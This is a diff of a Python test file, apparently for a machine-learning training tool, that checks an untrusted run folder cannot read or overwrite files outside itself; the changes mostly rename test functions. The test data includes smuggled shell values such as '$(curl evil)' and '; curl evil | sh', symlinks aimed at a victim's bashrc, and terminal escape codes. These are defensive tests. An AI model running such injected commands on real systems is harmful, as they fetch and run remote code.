@@ -1,4 +1,4 @@
-"""A run folder that a stranger has prepared: nothing outside of it is read, changed or deleted."""
+"""Hostile run folders: nothing outside of them is read, changed or deleted."""
 
 from __future__ import annotations
 
@@ -80,7 +80,7 @@ def refused(action: Callable[[], object]) -> str:
 
 @pytest.mark.parametrize("make", [os.symlink, os.link])
 @pytest.mark.parametrize("name", ["run.log", ".lock"])
-def test_a_file_that_is_added_to_is_never_another_one(name, make, folder, victim):
+def test_appending_never_writes_to_another_file(name, make, folder, victim):
     (folder / name).unlink()
     make(victim / "bashrc", folder / name)
     if (name, make) == (".lock", os.link):
@@ -92,7 +92,7 @@ def test_a_file_that_is_added_to_is_never_another_one(name, make, folder, victim
 
 
 @pytest.mark.parametrize("name", ["run.log", ".lock"])
-def test_a_link_to_what_is_not_there_makes_no_file(name, folder, tmp_path):
+def test_a_dangling_link_creates_no_file(name, folder, tmp_path):
     (folder / name).unlink()
     (folder / name).symlink_to(tmp_path / "new")
     refused(lambda: begin(folder, resume=True))
@@ -100,7 +100,7 @@ def test_a_link_to_what_is_not_there_makes_no_file(name, folder, tmp_path):
 
 
 @pytest.mark.parametrize("value", ["x\n; curl evil | sh\n", "$(curl evil)", ["curl"], 10**70])
-def test_what_a_folder_says_of_its_environment_is_not_logged(value, folder, caplog):
+def test_an_environment_read_from_a_folder_is_not_logged(value, folder, caplog):
     write_json(folder / "environment.json", environment() | {"torch": value})
     caplog.set_level(logging.INFO)
     begin(folder, resume=True)
@@ -247,7 +247,7 @@ def test_a_second_run_in_one_folder_is_refused_at_once(tmp_path):
         assert refused(lambda: begin(tmp_path / "new")) == message
 
 
-def test_a_new_run_never_takes_over_a_finished_one(tmp_path, monkeypatch):
+def test_a_new_run_never_overwrites_a_finished_one(tmp_path, monkeypatch):
     """Both have looked before either has inputs, as two that prepare their teachers for minutes."""
     out = tmp_path / "out"
     monkeypatch.setattr(files, "check_free", lambda _path: None)
@@ -300,7 +300,7 @@ def test_a_name_that_is_a_link_without_a_target_is_not_free(tmp_path):
         '{"seconds": 1, "records": [{"loss": "x"}]}',
     ],
 )
-def test_a_checkpoint_of_another_form_is_one_line(values, folder):
+def test_a_checkpoint_of_another_form_is_refused_in_one_line(values, folder):
     path = folder / "checkpoint.safetensors"
     path.unlink()
     write_safetensors(path, STATE.tensors, {"state": values})
@@ -309,7 +309,7 @@ def test_a_checkpoint_of_another_form_is_one_line(values, folder):
     assert text == f"{path} has no training state; expected a run's checkpoint"
 
 
-def test_kernel_choices_that_changed_are_told(folder, caplog, monkeypatch):
+def test_changed_kernel_choices_are_reported(folder, caplog, monkeypatch):
     before = environment() | {"OMP_A": "1", "MKL_B": "2", "ATEN_C\n": "x", "TORCH_D": "\x1b[2J"}
     write_json(folder / "environment.json", before)
     monkeypatch.setenv("OMP_A", "3")
